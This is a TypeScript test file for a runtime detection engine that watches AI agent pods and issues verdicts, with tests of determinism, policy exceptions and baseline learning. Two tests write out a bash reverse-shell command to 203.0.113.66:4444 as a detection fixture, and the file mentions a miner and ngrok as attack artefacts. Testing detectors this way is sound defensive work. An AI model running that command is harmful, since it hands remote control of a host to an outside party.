import { check } from "@bailiff/crds";
import type { Event } from "@bailiff/proto";
import { expect, test } from "vitest";
import { anExecOf, at, withCommand } from "../testing/commands.ts";
import { type Arrangement, pipeline, policyFor, verdictsOn } from "../testing/engine.ts";
import {
  type Capture,
  captures,
  isRecorded,
  judgedSessions,
  type Recording,
  recorded,
  sessions,
} from "../testing/recordings.ts";

const everything: readonly Recording[] = [...sessions, ...captures];
const arrangements: readonly Arrangement[] = [{}, { isTrained: false }, { isTrained: false, knowsCluster: false }];

test.each(judgedSessions)(
  "the same actions give the same verdicts, byte for byte: %s twice, and from frames and lines",
  (session) => {
    const once = JSON.stringify(verdictsOn(recorded(session)));
    expect(JSON.stringify(verdictsOn(recorded(session)))).toBe(once);
    expect(JSON.stringify(verdictsOn(recorded(session, "lines")))).toBe(once);
  },
);

test.each(captures.filter((name) => isRecorded(name, "lines") && isRecorded(name, "frames")))(
  "frames and lines of %s hold the same findings",
  (capture) => {
    const untrained = { isTrained: false };
    const names = (form: "frames" | "lines") =>
      verdictsOn(recorded(capture, form), untrained).map(({ spec }) => [
        spec.pod.name,
        spec.findings.map(({ rule, signature }) => `${rule} ${signature}`).sort(),
      ]);
    expect(names("lines")).toEqual(names("frames"));
  },
);

test.each(everything)("events in are actions and counted others, nothing is lost on the way: %s", (name) => {
  for (const arrangement of arrangements) {
    const engine = pipeline(arrangement);
    for (const event of recorded(name)) engine.take(event);
    const others = [...engine.tally.counted.values()].reduce((a, b) => a + b, 0);
    expect(engine.tally.events).toBe(recorded(name).length);
    expect(engine.tally.actions + others).toBe(engine.tally.events);
  }
});

test.each(everything)("each verdict on %s is one that the API server takes", (name) => {
  for (const arrangement of arrangements)
    for (const verdict of verdictsOn(recorded(name), arrangement)) {
      const checked = check("AgentVerdict", verdict, name);
      expect(checked.ok ? [] : checked.problems).toEqual([]);
    }
});

test("a verdict on hostile text is one that the API server takes", () => {
  const texts = [
    "\u0000\u001b[2J\u202e",
    "\ud800x\udfff",
    "😀".repeat(900),
    "&<>".repeat(900),
    "é".repeat(5000),
    "\n".repeat(5000),
  ];
  const first = anExecOf("support-bot");
  const events = texts.flatMap((text, index) => [
    at(withCommand(first, `/tmp/${text}`, text), first.time + index, `${text}-${index}`),
    at(
      withCommand(first, "/usr/bin/bash", `-c "bash -i >& /dev/tcp/203.0.113.66/4444 ${text}"`),
      first.time + index,
      text,
    ),
  ]);
  for (const arrangement of arrangements) {
    const verdicts = verdictsOn(events, arrangement);
    expect(verdicts).not.toEqual([]);
    for (const verdict of verdicts) {
      const checked = check("AgentVerdict", verdict, "hostile");
      expect(checked.ok ? [] : checked.problems).toEqual([]);
      expect(JSON.stringify(verdict)).not.toMatch(/[\p{Cc}\u202e]|\\ud[89a-f]/u);
    }
  }
});

test.each<[Capture, string[]]>([
  ["a-benign-nopod", ["Identity"]],
  ["a-benign-k8s-unresolved", ["Identity"]],
  ["b-compromised-k8s-unresolved", ["Identity"]],
  ["d-throttle2", ["Coverage"]],
  ["f-weird", ["Coverage"]],
  ["h-ringbuf-loss", ["Coverage"]],
])("what nobody could see or attribute in %s is a finding, never innocence", (capture, gates) => {
  const found = verdictsOn(recorded(capture), { isTrained: false, knowsCluster: false }).flatMap(
    ({ spec }) => spec.findings,
  );
  expect(found.map(({ gate }) => gate)).toEqual(expect.arrayContaining(gates));
});

test("pods that no policy selects are not judged, and counted", () => {
  const engine = pipeline({ policies: [policyFor("support")] });
  for (const event of recorded("dev-attack-1")) engine.take(event);
  const namespaces = new Set(engine.verdicts().map(({ metadata }) => metadata.namespace));
  expect([...namespaces]).toEqual(["support"]);
  expect(engine.tally.unselected).toBeGreaterThan(1000);
});

test("a policy turns rules off, gives them another severity, and excepts what it names until a date", () => {
  const shell = withCommand(anExecOf("support-bot"), "/bin/bash", '-c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"');
  const severity = (spec: Parameters<typeof policyFor>[1]): string =>
    verdictsOn([shell], { isTrained: false, policies: [policyFor("support", spec)] })[0]?.spec.severity ?? "none";
  const except = (match: object, expires: string) => ({
    exceptions: [{ rule: "reverse-shell", reason: "ticket 4711", match, expires }],
  });
  const [past, future] = ["2026-11-20T00:00:00Z", "2027-01-31T00:00:00Z"];
  expect(severity({})).toBe("Critical");
  expect(severity({ rules: { disabled: ["reverse-shell"] } })).toBe("none");
  expect(severity({ rules: { severity: { "reverse-shell": "Low" } } })).toBe("Low");
  expect(severity(except({ binary: "/bin/*sh" }, future))).toBe("none");
  expect(severity(except({ binary: "/bin/*sh" }, past))).toBe("Critical");
  expect(severity(except({ binary: "/bin/zsh" }, future))).toBe("Critical");
  expect(severity(except({ arguments: "*/dev/tcp/203.0.113.66/*" }, future))).toBe("none");
});

test("what an attacked task did is not learned, the agent's own work is", () => {
  const calm = pipeline({ isTrained: false });
  const tricked = pipeline({ isTrained: false });
  for (const event of recorded("dev-attack-1")) tricked.learn(event);
  for (const event of recorded("dev-benign-1")) calm.learn(event);
  const binaries = (engine: typeof calm, agent: string): Set<string> =>
    new Set(
      [...(engine.baselines.get(agent)?.containers.values() ?? [])].flatMap(({ exec }) =>
        [...exec.values()].map(({ binary }) => binary),
      ),
    );
  const learned = binaries(tricked, "dev-agents/sandboxtemplate/9b1c4e77");
  for (const binary of ["/tmp/xmrig", "/tmp/ngrok"]) expect(learned).not.toContain(binary);
  expect(learned).toContain("/usr/bin/git");
  expect(binaries(calm, "support/deployment/support-bot")).not.toContain("/usr/bin/ps");
});

test("judging changes nothing of what was learned", () => {
  const engine = pipeline();
  const hashes = (): string[] => [...engine.baselines.values()].map((baseline) => baseline.hash());
  const before = hashes();
  for (const event of recorded("dev-attack-2")) engine.take(event);
  expect(hashes()).toEqual(before);
});

test("events that say nothing of a process at all end nothing", () => {
  const engine = pipeline({ isTrained: false });
  const odd: Event[] = [
    { type: "other", name: "unknown", node: "", time: 0 },
    { type: "rate_limit_info", dropped: 3, node: "n1", time: 5 },
    { type: "throttle", phase: "start", cgroup: "\u0000".repeat(64), node: "", time: -1 },
  ];
  for (const event of odd) engine.take(event);
  expect([...engine.tally.counted.keys()].sort()).toEqual(["other-event", "rate-limited", "throttled"]);
  for (const verdict of engine.verdicts()) expect(check("AgentVerdict", verdict, "odd").ok).toBe(true);
});
